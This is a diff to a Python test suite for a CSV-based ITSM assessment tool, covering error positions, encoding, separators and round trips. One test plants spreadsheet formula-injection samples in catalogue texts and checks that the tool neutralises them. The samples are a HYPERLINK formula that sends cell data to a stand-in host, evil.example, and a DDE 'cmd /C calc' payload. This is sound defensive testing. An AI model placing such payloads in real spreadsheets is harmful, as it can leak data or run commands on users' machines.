@@ -484,23 +484,23 @@ def test_import():
     r = expect(run('import', qpath, '--catalogue', MINI_CAT, '--id', 'x', '--date', '2026-03-01',
                    '--evidence', epath, '-o', out), 1, 'import with bad cells')
     q, e = qpath, epath
-    for fname, line, colname, text in [
-            (e, 2, 'kind', 'expected document, record, interview, observation, metric or other, not "memo"'),
-            (e, 3, 'title', 'an evidence record needs a title'),
-            (e, 3, 'collected', 'expected a date YYYY-MM-DD, not "2026-02-30"'),
-            (e, 3, 'sha256', 'expected 64 hexadecimal digits, not "abc"'),
-            (e, 4, 'id', 'evidence "E1" is already on line 2'),
-            (q, 2, 'rating', 'expected N, P-, P, P+, L-, L, L+, F or a number from 0 to 100, not "Q"'),
-            (q, 5, 'id', 'no requirement "A-99" in catalogue mini:1'),
-            (q, 6, 'evidence', 'no evidence record "E7" in the evidence list'),
-            (q, 8, 'id', 'requirement B.1-01 is already on line 7'),
-            (q, 9, 'id', 'PA1.1 is derived'),
-            (q, 10, 'process', '"A" is not a process of catalogue mini:1'),
-            (q, 11, 'id', 'expected a process attribute PA2.1 to PA5.2, not "PA9.9"'),
-            (q, 12, 'rating', 'a target is a capability level from 0 to 5, not "7"'),
-            (q, 13, 'type', 'expected requirement, attribute or target, not "thing"'),
-            (q, 14, 'note', 'an excluded requirement needs the reason in the note')]:
-        wanted = '%s:%d: column "%s": %s' % (fname, line, colname, text)
+    for fname, line, column, colname, text in [
+            (e, 2, 11, 'kind', 'expected document, record, interview, observation, metric or other, not "memo"'),
+            (e, 3, 4, 'title', 'an evidence record needs a title'),
+            (e, 3, 12, 'collected', 'expected a date YYYY-MM-DD, not "2026-02-30"'),
+            (e, 3, 35, 'sha256', 'expected 64 hexadecimal digits, not "abc"'),
+            (e, 4, 1, 'id', 'evidence "E1" is already on line 2'),
+            (q, 2, 19, 'rating', 'expected N, P-, P, P+, L-, L, L+, F or a number from 0 to 100, not "Q"'),
+            (q, 5, 13, 'id', 'no requirement "A-99" in catalogue mini:1'),
+            (q, 6, 21, 'evidence', 'no evidence record "E7" in the evidence list'),
+            (q, 8, 13, 'id', 'requirement B.1-01 is already on line 7'),
+            (q, 9, 11, 'id', 'PA1.1 is derived'),
+            (q, 10, 17, 'process', '"A" is not a process of catalogue mini:1'),
+            (q, 11, 11, 'id', 'expected a process attribute PA2.1 to PA5.2, not "PA9.9"'),
+            (q, 12, 13, 'rating', 'a target is a capability level from 0 to 5, not "7"'),
+            (q, 13, 1, 'type', 'expected requirement, attribute or target, not "thing"'),
+            (q, 14, 26, 'note', 'an excluded requirement needs the reason in the note')]:
+        wanted = '%s:%d:%d: column "%s": %s' % (fname, line, column, colname, text)
         check(any(l.startswith(wanted) for l in r.err.splitlines()), 'import reports %s' % wanted, r)
     check('problems found; nothing was written' in r.err, 'summary of problems', r)
     check(not os.path.exists(out), 'nothing written after problems')
@@ -509,12 +509,12 @@ def test_import():
     write_csv(qpath, [['id', 'rating', 'note'], ['8.6.1-01', 'excluded', 'Not for us']], bom=False)
     r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
                'an exclusion the catalogue forbids')
-    check(re.search(r':2: column "rating": .*', r.err), 'forbidden exclusion names the cell', r)
+    check(re.search(r':2:10: column "rating": .*', r.err), 'forbidden exclusion names the cell', r)
     # evidence cited without an evidence list
     write_csv(qpath, [['id', 'rating', 'evidence'], ['8.6.1-01', 'F', 'EV-1']], bom=False)
     r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
                'evidence without --evidence')
-    check('(no --evidence list was given)' in r.err, 'hint about --evidence', r)
+    check('no evidence record "EV-1" (no evidence list was given)' in r.err, 'hint about --evidence', r)
 
     # CSV syntax: an unclosed quote is reported at its line and column
     with open(qpath, 'w', encoding='utf-8', newline='') as f:
@@ -531,7 +531,7 @@ def test_import():
         f.write('id,grade\n8.6.1-01,F\n')
     r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
                'missing column')
-    check('%s:1: the header row has no "rating" column' % qpath in r.err, 'missing column message', r)
+    check('%s:1:1: the header row has no "rating" column' % qpath in r.err, 'missing column message', r)
     with open(qpath, 'w', encoding='utf-8', newline='') as f:
         f.write('')
     expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1, 'empty file')
@@ -552,6 +552,170 @@ def test_import():
 
 
 # ---- validate -----------------------------------------------------------------------------------
+
+
+def import_args(qpath, *more, cat=None):
+    return ('import', qpath, '--catalogue', cat or 'iso20000-1:2018', '--id', 'x', '--date', '2026-11-20') + more
+
+
+def read_json(path):
+    """A JSON file written by the program, or {} when it is missing or broken (a failed check)."""
+    try:
+        with open(path, encoding='utf-8') as f:
+            return json.load(f)
+    except (OSError, ValueError) as e:
+        check(False, 'read %s' % path, '%s: %s' % (type(e).__name__, str(e)[-200:]))
+        return {}
+
+
+def first(doc, key):
+    """The first record of a list member, {} when there is none."""
+    return (doc.get(key) or [{}])[0]
+
+
+def problem_lines(r):
+    return [l for l in r.err.splitlines() if not l.startswith('itsma import:')]
+
+
+def test_csv():
+    """Hostile and foreign CSV: nothing is cut, NUL and bad UTF-8 are refused where they are,
+    ';' and tab files import, one broken evidence record is one problem, formulas are
+    neutralised and round-trip."""
+    qpath, epath, out = work('q.csv'), work('e.csv'), work('out.json')
+    ev_header = ['id', 'title', 'kind', 'collected', 'expires', 'uri', 'sha256', 'by', 'note']
+
+    # an evidence cell longer than the old 8 KiB buffer: the last id was cut from E1234 to E12
+    cell = 'E1' + ' ' * 8187 + 'E1234'
+    write_csv(epath, [ev_header, ['E1', 'One', 'record', '2026-01-10'] + [''] * 5,
+                      ['E12', 'Twelve', 'record', '2026-01-10'] + [''] * 5,
+                      ['E1234', 'Long id', 'record', '2026-01-10'] + [''] * 5])
+    write_csv(qpath, [['id', 'rating', 'evidence'], ['8.6.1-01', 'F', cell]])
+    r = expect(run(*import_args(qpath, '--evidence', epath, '-o', out)), 0, 'import of a long evidence cell')
+    a = read_json(out)
+    check(first(a, 'ratings').get('evidence') == ['E1', 'E1234'], 'a long evidence cell keeps its last id whole', a.get('ratings'))
+
+    # a 5000-byte title with a two-byte character where the old 4 KiB buffer cut it
+    title = 'T' * 4094 + '\u00e9' + 'x' * 904
+    note = '\u20ac' * 1700  # 5100 bytes
+    write_csv(epath, [ev_header, ['E1', title, 'document', '2026-01-10', '', '', '', '', note]])
+    write_csv(qpath, [['id', 'rating', 'evidence', 'note'], ['8.6.1-01', 'F', 'E1', note]])
+    r = expect(run(*import_args(qpath, '--evidence', epath, '-o', out)), 0, 'import of long multi-byte cells')
+    a = read_json(out)
+    check(first(a, 'evidence').get('title') == title, 'a 5000-byte title is kept whole')
+    check(first(a, 'evidence').get('note') == note and first(a, 'ratings').get('note') == note, '5100-byte notes are kept whole')
+    # a 5000-character id is refused, said so, and shown shortened with its length
+    write_csv(epath, [ev_header, ['E' + '9' * 4999, 'Long', 'document', '2026-01-10'] + [''] * 5])
+    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a 5000-character evidence id')
+    check(re.search(r'e\.csv:2:1: column "id": "E9+\.\.\." \(5000 bytes\) "" is not an identifier', r.err),
+          'a long id is refused and shown shortened, with its length', r)
+
+    # NUL and invalid UTF-8 are refused at their line and column
+    with open(qpath, 'wb') as f:
+        f.write(b'id,rating,note\n8.6.1-01,F,ab\x00cd\n')
+    r = expect(run(*import_args(qpath)), 1, 'a NUL byte in a cell')
+    check('%s:2:14: a NUL byte is not allowed' % qpath in r.err, 'NUL refused at its position', r)
+    with open(qpath, 'wb') as f:
+        f.write(b'id,rating,note\r\n8.6.1-01,F,"caf\xc3\xa9 ok"\r\n8.6.1-02,F,caf\xe9\r\n')
+    r = expect(run(*import_args(qpath)), 1, 'invalid UTF-8 in a cell')
+    check('%s:3:15: invalid UTF-8' % qpath in r.err, 'invalid UTF-8 refused at its position', r)
+    with open(qpath, 'wb') as f:
+        f.write(b'id,rating,note\n8.6.1-01,F,"\xed\xa0\x80"\n')
+    r = expect(run(*import_args(qpath)), 1, 'an encoded surrogate')
+    check('%s:2:13: invalid UTF-8' % qpath in r.err, 'surrogates are invalid UTF-8', r)
+
+    # a European spreadsheet: ';' separators, decimal commas; BOM, CRLF and a quoted newline
+    with open(qpath, 'w', encoding='utf-8-sig', newline='') as f:
+        f.write('type;id;rating;evidence;note\r\nrequirement;8.6.1-01;72,5;;"zwei\r\nZeilen; mit ""Semikolon"""\r\n'
+                'requirement;8.6.1-02;l+;;\r\n')
+    r = expect(run(*import_args(qpath, '-o', out)), 0, 'a ;-separated questionnaire')
+    a = read_json(out)
+    check([(x['requirement'], x['rating'], x.get('note')) for x in a.get('ratings', [])] ==
+          [('8.6.1-01', 72.5, 'zwei\nZeilen; mit "Semikolon"'), ('8.6.1-02', 'L+', None)],
+          'separator found from the header row; decimal comma; quoted newline and quotes', a.get('ratings'))
+    with open(qpath, 'w', encoding='utf-8', newline='') as f:
+        f.write('id\trating\tnote\n8.6.1-01\tF\ta, b; c\n')
+    r = expect(run(*import_args(qpath, '-o', out)), 0, 'a tab-separated questionnaire')
+    a = read_json(out)
+    check(first(a, 'ratings').get('note') == 'a, b; c', 'tab separator found', a.get('ratings'))
+    # --delimiter overrides the guess (a one-column header gives none)
+    with open(qpath, 'w', encoding='utf-8', newline='') as f:
+        f.write('id;rating\n8.6.1-01;F\n')
+    r = expect(run(*import_args(qpath, '--delimiter', ',')), 1, 'a ;-file read with --delimiter ,')
+    check('the header row has no "id" column (are the columns separated by another character?' in r.err,
+          'a hint at the separator', r)
+    expect(run(*import_args(qpath, '--delimiter', ';', '-o', out)), 0, '--delimiter ;')
+    expect(run(*import_args(qpath, '--delimiter', '|')), 2, 'a bad --delimiter')
+
+    # one evidence record with a bad date, cited by 40 ratings: the cause once, with the count
+    write_csv(epath, [ev_header, ['E1', 'Policy', 'document', '2026-02-30'] + [''] * 5,
+                      ['E2', 'Tickets', 'record', '2026-01-10'] + [''] * 5])
+    t = run('template', 'iso20000-1:2018', '--format', 'csv')
+    ids = [row[1] for row in read_csv_text(t.out)[1:] if row[0] == 'requirement'][:40]
+    write_csv(qpath, [['id', 'rating', 'evidence']] + [[i, 'F', 'E1 E2'] for i in ids])
+    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a bad evidence date cited 40 times')
+    lines = problem_lines(r)
+    check(len(lines) == 2, 'two problems: the bad date and the rows it affects', r)
+    check(lines and lines[0].startswith('%s:2:' % epath) and 'expected a date YYYY-MM-DD, not "2026-02-30"' in lines[0],
+          'the cause', r)
+    check(len(lines) > 1 and lines[1].startswith('%s:2:1: evidence "E1" was left out' % epath) and
+          '40 rows of %s cite it (the first on line 2)' % qpath in lines[1], 'one line with the count', r)
+    check('2 problems found; nothing was written' in r.err, 'the summary counts two', r)
+    # an id that no record has, cited 40 times: one problem at its first citation
+    write_csv(qpath, [['id', 'rating', 'evidence']] + [[i, 'F', 'E2 E404'] for i in ids])
+    r = expect(run(*import_args(qpath, '--evidence', epath)), 1, 'a missing evidence id cited 40 times')
+    lines = [l for l in problem_lines(r) if not l.startswith(epath)]
+    check(len(lines) == 1 and lines[0].startswith('%s:2:' % qpath) and
+          'no evidence record "E404" in the evidence list; 40 rows cite it (the first here)' in lines[0],
+          'one problem for the missing id', r)
+
+    # formulas: the template neutralises cells a spreadsheet would run, keeps numbers numeric
+    cat = json.load(open(MINI_CAT, encoding='utf-8'))
+    reqs = cat['sections'][0]['requirements']
+    reqs[0]['text'] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    reqs[1]['text'] = '@SUM(1+1)*cmd|\' /C calc\'!A0'
+    cat['sections'][1]['sections'][0]['requirements'][0]['text'] = '+1 call back'
+    cat['sections'][1]['sections'][0]['requirements'][1]['text'] = '-2'
+    cat['sections'][1]['sections'][0]['title'] = '\tTabbed'
+    fcat = work('formula-catalogue.json')
+    with open(fcat, 'w', encoding='utf-8') as f:
+        json.dump(cat, f)
+    r = expect(run('template', fcat, '--format', 'csv'), 0, 'template of a catalogue with formula texts')
+    check('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in r.out, '= neutralised and quoted', r)
+    check('"\'@SUM(1+1)*cmd|\' /C calc\'!A0"' in r.out and '"\'+1 call back"' in r.out, '@ and + neutralised', r)
+    check(',-2,' in r.out and "'-2" not in r.out, 'a plain number stays a number', r)
+    for row in read_csv_text(r.out)[1:]:
+        for c in row:
+            check(not c or c[0] not in '=+-@\t\r' or re.match(r'^[+-]?\d+(\.\d+)?$', c), 'no live formula cell', row)
+
+    # round trip: an assessment with formula-like texts -> evidence sheet and questionnaire
+    # (--from) -> import gives the same evidence, ratings, attributes, exclusions and targets
+    q4 = json.load(open(Q4, encoding='utf-8'))
+    q4['evidence'][0]['title'] = '=1+2 and more'
+    q4['evidence'][1]['note'] = '-minus first'
+    q4['evidence'][2]['by'] = '@team'
+    q4['ratings'][0]['note'] = '+plus, with a comma\nand a line'
+    q4['ratings'][1]['note'] = "'=already quoted once"
+    q4['targets'] = {'processes': {'8.6.1': 3, '8.5.1': 2}}
+    src_path = work('formula-q4.json')
+    with open(src_path, 'w', encoding='utf-8') as f:
+        json.dump(q4, f)
+    expect(run('validate', src_path), 0, 'the doctored sample is valid')
+    r = expect(run('template', '--format', 'evidence-csv', '--from', src_path, '-o', epath), 0,
+               'evidence sheet from an assessment')
+    text = open(epath, encoding='utf-8-sig').read()
+    check('"\'=1+2 and more"' in text and '"\'-minus first"' in text and '"\'@team"' in text,
+          'evidence cells neutralised', text[:400])
+    r = expect(run('template', 'iso20000-1:2018', '--format', 'csv', '--from', src_path, '--delimiter', ';',
+                   '-o', qpath), 0, 'questionnaire from an assessment, ;-separated')
+    text = open(qpath, encoding='utf-8-sig').read()
+    check(text.startswith('type;id;') and '"\'+plus, with a comma\r\n' not in text, 'a ;-separated questionnaire', text[:200])
+    r = expect(run('import', qpath, '--evidence', epath, '--catalogue', 'iso20000-1:2018', '--id', q4['id'],
+                   '--date', q4['date'], '-o', out), 0, 'import of the round trip')
+    got = read_json(out)
+    for key in ('evidence', 'ratings', 'attributes', 'scope', 'targets'):
+        check(got.get(key) == q4.get(key), 'round trip keeps %s' % key,
+              None if got.get(key) == q4.get(key) else '%r\n!=\n%r' % (got.get(key), q4.get(key)))
+
 
 def test_validate():
     r = expect(run('validate', Q3, Q4), 0, 'validate the samples')
@@ -961,11 +1125,27 @@ def test_examples():
     check(len(a['ratings']) == 8 and len(a['evidence']) == 4, 'ratings and evidence from the export', a)
     r = expect(run(binary=ex('build_assessment')), 0, 'build_assessment to stdout')
     check(json.loads(r.out)['id'] == 'itsm-export-2026-11', 'json on stdout', r)
+    # questionnaire: write the sheets through a callback, fill one row, import them back
+    qpath, epath = work('ex-q.csv'), work('ex-e.csv')
+    r = expect(run('write', qpath, epath, binary=ex('questionnaire')), 0, 'questionnaire write')
+    rows = read_csv_text(open(qpath, encoding='utf-8-sig').read())
+    check(rows[0][:2] == ['type', 'id'] and [x[6] for x in rows if x[0] == 'target'] == ['2'] * 21,
+          'the written questionnaire, targets filled', rows[:2])
+    for row in rows:
+        if row[1] == '8.6.1-01':
+            row[6], row[7] = 'L', 'EV-1'
+    write_csv(qpath, rows)
+    write_csv(epath, [['id', 'title', 'kind', 'collected'], ['EV-1', 'Incident procedure', 'document', '2026-10-01']])
+    r = expect(run('import', qpath, epath, binary=ex('questionnaire')), 0, 'questionnaire import')
+    check(r.out.startswith('1 ratings, 0 process attributes, 1 evidence records: '), 'imported', r)
+    write_csv(epath, [['id', 'title', 'kind', 'collected'], ['EV-1', 'Incident procedure', 'document', '2026-10-32']])
+    r = expect(run('import', qpath, epath, binary=ex('questionnaire')), 1, 'questionnaire import with a bad date')
+    check('%s:2:' % epath in r.err and '2 problems; nothing imported' in r.err, 'problems with positions', r)
 
 
 GROUPS = {
     'help': test_help, 'catalogue': test_catalogue, 'template': test_template, 'import': test_import,
-    'roundtrip': test_roundtrip, 'validate': test_validate, 'score': test_score, 'report': test_report,
+    'roundtrip': test_roundtrip, 'csv': test_csv, 'validate': test_validate, 'score': test_score, 'report': test_report,
     'compare': test_compare, 'explain': test_explain, 'evidence': test_evidence, 'examples': test_examples,
 }
 
